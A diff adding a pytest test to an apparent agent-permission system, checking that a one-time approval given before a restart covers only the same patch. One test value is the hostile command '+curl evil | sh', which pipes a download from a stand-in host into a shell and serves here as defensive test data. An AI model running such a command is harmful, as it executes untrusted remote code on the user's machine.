@@ -241,6 +241,21 @@ def test_answer_that_was_given_before_the_restart__is_not_asked_for_again(backen
     assert backend.answered == [("per_2", ("reject", "Never."))]
 
 
+@pytest.mark.parametrize("patch", ["+echo hello", "+curl evil | sh"])
+def test_once_that_was_given_before_the_restart__is_for_the_same_patch_only(
+    backend, server, working, outside, session, patch
+):
+    PermissionRule.objects.create(project=session.project, permission="edit", pattern="*", action="ask", position=1)
+    edit = replace(outside, permission="edit", patterns=("deploy.sh",), always=(), patch="+echo hello")
+    ask = taken(backend, server, edit)
+    asks.answer(ask_id=ask.pk, actor=None, reply="once")
+    resume(Turn.objects.get(pk=working.pk))
+    Turn.objects.filter(pk=working.pk).update(state="running")
+    backend.asked.clear()
+    again = taken(backend, server, replace(edit, id="per_2", call="call_2", patch=patch))
+    assert again.state == ("answered" if patch == "+echo hello" else "pending")
+
+
 def test_question_answered_before_the_restart__is_not_asked_again(backend, server, working, question):
     ask = taken(backend, server, question)
     asks.answer(ask_id=ask.pk, actor=None, answers=[["B"], ["So."]])
